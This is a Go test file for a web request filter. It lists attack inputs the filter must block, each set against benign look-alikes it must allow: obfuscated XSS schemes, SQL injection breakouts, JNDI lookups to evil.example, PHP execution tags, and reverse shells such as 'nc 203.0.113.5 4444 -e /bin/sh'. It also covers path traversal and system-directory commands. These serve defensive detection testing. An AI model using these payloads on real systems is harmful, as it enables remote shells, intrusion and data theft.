package filter

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// Attack shapes by class, each with the look-alikes that share its words:
// a script scheme split by control characters, numeric references padded
// with zeros, SQL breakouts with quotes a legacy code page maps to the
// apostrophe, Spring's XML contexts handed a URL, reverse shells and
// commands on system directories, PHP superglobals as parameter names,
// a project's manifests requested at the site's root, and a traversal in
// an uploaded file's name.
func TestGrammarShapes(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	values := []struct {
		v       string
		blocked bool
	}{
		// Script schemes split by what browsers drop from a scheme.
		{"ja&Tab;vascript:", true},
		{"ja\tvascript: ", true},
		{"java&NewLine;script&colon;", true},
		{"v&newline;b&tab;script&colon;:", true},
		{"java\x0bscript:x", true},
		{"v&newline;b&tab;s&newline;c&newline;r&tab;i&tab;p&newline;t&colon;:", true},
		{"v&Tab;bscript&colon;x", true},
		{"JavaScript: The Good Parts", false},
		{"java script: a language", false},
		{"I learned javascript:\tit is fun", false},
		// Numeric character references padded with zeros.
		{"&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.example/a}", true},
		{"&#000000000000000000000000000000000060;script>alert(1)&#0000000000000000000000000000000062;/script>", true},
		{"ticket &#00000000000000000000042; closed", false},
		// A closed literal OR TRUE, not an identifier that begins so.
		{"' or true--", true},
		{"'or(true)#", true},
		{"'ortrue", false},
		// A breakout whose condition is a function call, ended by ';',
		// also behind a backslash that defeats a quote escaper.
		{"admin@juice-sh.op\\' or glob (id,id);", true},
		{"x' or json(id);", true},
		{"x' OR sleep(5);", true},
		{"I said 'no' or (maybe);", false},
		{"rock'n' or roll (live);", false},
		// Quotes a legacy code page turns into apostrophes.
		{"1\u2019 OR \u20191\u2019=\u2019x\u2019#;--()", true},
		{"\u2018 OR \u20181\u2018=\u2018x\u2018--", true},
		{"x\u02bc or \u02bca\u02bc=\u02bca", true},
		// … also where only libinjection sees the injection: a breakout
		// then a comment that cuts the rest of the query.
		{"\u2019 OR \u20191=1#;--", true},
		{"admin\u2019--", true},
		{"1\u2019 AND SLEEP(5)#", true},
		{"we\u2019re #1 -- aren\u2019t we", false},
		{"Rock \u2019n\u2019 roll -- the best", false},
		{"All settings are logically \u2018OR\u2019 of each other.", false},
		{"It\u2019s the \u2018best\u2019 or the worst", false},
		{"Don\u2019t pick \u2018a\u2019 or \u2018b\u2019 before 5 o\u2019clock", false},
		// Spring's XML application contexts given a URL to load.
		{"com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('http://203.0.113.5/wb.xml')", true},
		{"org.springframework.context.support.ClassPathXmlApplicationContext", true},
		{`ApplicationContext ctx = new ClassPathXmlApplicationContext("beans.xml");`, false},
		{"see org.springframework.context.support for the XML contexts", false},
		// A PHP open tag counts with the code it opens; the bare tag
		// runs nothing.
		{"<?php system('id'); ?>", true},
		{"<?php\n$a=1;", true},
		{"<?=`id`?>", true},
		{"<?phpinfo();?>", true},
		{"<?php", false},
		{"<?php ?>", false},
		{"<?=", false},
		// JavaScript spelled in legacy octal escapes.
		{`[]['\146\151\154\164\145\162']['\143\157\156\163\164\162\165\143\164\157\162']('\141\154\145\162\164\50\61\51')()`, true},
		{`self['\141\154\145\162\164'](1)`, true},
		{`C:\101\102\data and \123`, false},
		{`s/(\w+) (\w+)/\2 \1/`, false},
		// A dynamic import of a module from another origin or a data:
		// URL runs that module's code; a playground's own chunks and CDN
		// imports written in full pass.
		{"import('//evil.example/x.js')", true},
		{"\";import(`//evil.example`)//", true},
		{"import('data:text/javascript,alert(1)')", true},
		{"const m = await import('./chunk.js');", false},
		{"await import(\"https://esm.sh/react@18\")", false},
		{"We import (and sell) fine teas", false},
		// CSS escapes inside a style sheet's @import.
		{"<STYLE>@\\import'http://evil.example/x.css';</STYLE>", true},
		{"<style>@\\69mport url(//evil.example/x.css)</style>", true},
		{"<style>@im\\port'//evil.example/x.css'</style>", true},
		{`<style>.icon:before{content:"\f101"}</style>`, false},
		{"<style>@media (max-width:600px){a{color:red}}</style>", false},
		// Reverse and bind shells, wherever they sit; output piped into
		// a shell; commands on system directories.
		{"nc 203.0.113.5 4444 -e /bin/sh", true},
		{"\";\\n. shell nc 10.10.10.1 6666 -e sh\\n", true},
		{"x && ncat -e /bin/bash 203.0.113.5 4444", true},
		{"socat tcp-connect:203.0.113.5:4444 exec:sh,pty", true},
		{"echo \"foo;whxam\"i | tr x o | sh #", true},
		{"ls -la /etc/", true},
		{"tar -xzf /var/www/exfiltrate.tar.gz /etc", true},
		{"Use nc -l 8080 to listen", false},
		{"Pipe the output | sh is not needed", false},
		{"To extract: tar -xzf archive.tar.gz", false},
		{"ls -la shows hidden files", false},
		{"ll /var/www/", true},
		// A command behind a prefix that runs it, as the whole value.
		{"time who", true},
		{"ti''me who", true},
		{"\"time\" who", true},
		{"strace ls", true},
		{"nohup id", true},
		{"time curl example.org", true},
		{"what time who won", false},
		{"time is money", false},
		{"nice cat", false},
		{"sudo make me a sandwich", false},
		// A glob class with a slash matches no file name character.
		{"/[e//]tc", true},
		{"/[e///]tc", true},
		{"/src/[id]/page.tsx", false},
		{"/[a-z/]", false},
		// The process classes under any package name.
		{"java.evil.runtime", true},
		{"java.x.y.ProcessBuilder", true},
		{"java.runtime.version", false},
		{"java.runtime.name", false},
		// A JNDI URL of a remote naming service, however it is wrapped.
		{"jndi:ldap://evil.example/a", true},
		{"$&lbracejndi:ldap://evil.example/webshell}", true},
		{"x jndi: rmi://203.0.113.5:1099/Exploit", true},
		{"jndi:java:comp/env/jdbc/orders", false},
		{"java:comp/env/jdbc/orders", false},
		// A stacked SELECT of a server variable, also glued.
		{"';SELECT*@@version#--", true},
		{"';select(@@version)", true},
		{"select*from the menu; select @ the bar", false},
	}
	for _, c := range values {
		for _, place := range []string{"query", "form", "json"} {
			expectBlocked(t, eng, place, "q", c.v, c.blocked)
		}
	}

	names := []struct {
		name    string
		blocked bool
	}{
		{"$_COOKIE", true},
		{"$_SERVER[DOCUMENT_ROOT]", true},
		{"$GLOBALS", true},
		{"$_session", true},
		{"$price", false},
		{"$_cookie_consent", false},
		{"_COOKIE", false},
		{"$top", false},
	}
	for _, c := range names {
		q := url.Values{c.name: {"1"}}.Encode()
		for _, r := range []*http.Request{
			newReq("GET", "http://app.example.com/search?"+q, "", ""),
			newReq("POST", "http://app.example.com/submit", "application/x-www-form-urlencoded", q),
		} {
			expectVerdict(t, eng, r, "parameter name "+c.name+" in "+r.Method, c.blocked)
		}
	}

	// Manifests, lock files and build definitions at the site's root;
	// the same names deeper in a path are a code host's or a registry's.
	for _, c := range []struct {
		path    string
		blocked bool
	}{
		{"/composer.lock", true},
		{"/package.json", true},
		{"/.gitlab-ci.yml", true},
		{"/Dockerfile", true},
		{"/Gemfile.lock", true},
		{"/org/repo/raw/main/package.json", false},
		{"/api/packages/left-pad/package.json", false},
		{"/docs/dockerfile", false},
		{"/package.json.html", false},
	} {
		expectVerdict(t, eng, newReq("GET", "http://app.example.com"+c.path, "", ""), "path "+c.path, c.blocked)
	}

	files := []struct {
		name    string
		blocked bool
	}{
		{"../1.7z", true},
		{`..\1.7z`, true},
		{"..%2fshell.php", true},
		{"report..final.pdf", false},
		{"notes...txt", false},
		{"photo.jpg", false},
	}
	for _, c := range files {
		expectVerdict(t, eng, multipartUpload("file", c.name, "plain text"), "upload named "+c.name, c.blocked)
	}
}

// TestRawOverlongForms: overlong UTF-8 forms of four, five and six bytes
// written as raw bytes (not percent-encoded, so nothing else asks for
// decoding) are folded before detection.
func TestRawOverlongForms(t *testing.T) {
	in, err := NewInspector(InspectorOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, dot := range []string{"\xf0\x80\x80\xae", "\xf8\x80\x80\x80\xae", "\xfc\x80\x80\x80\x80\xae"} {
		v := strings.Repeat(dot+dot+"/", 4) + "img/a.png"
		score := 0
		for _, h := range in.InspectValue(nil, KindBodyValue, "file", v) {
			score += h.Score
		}
		if score < DefaultThreshold {
			t.Errorf("%q: score %d, want a block", v, score)
		}
	}
}
